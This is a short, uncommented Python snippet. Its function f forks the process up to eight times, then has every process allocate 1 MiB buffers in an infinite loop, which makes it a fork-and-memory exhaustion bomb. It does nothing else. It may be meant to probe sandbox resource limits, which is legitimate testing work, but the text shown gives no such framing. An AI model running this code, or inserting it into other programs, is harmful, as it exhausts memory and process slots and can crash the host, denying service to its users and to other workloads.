import os
def f(x):
    for _ in range(8):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    kept = [b"%d" % i * 4096 for i in range(1 << 12)]
    while True:
        kept.append(bytearray(1 << 20))
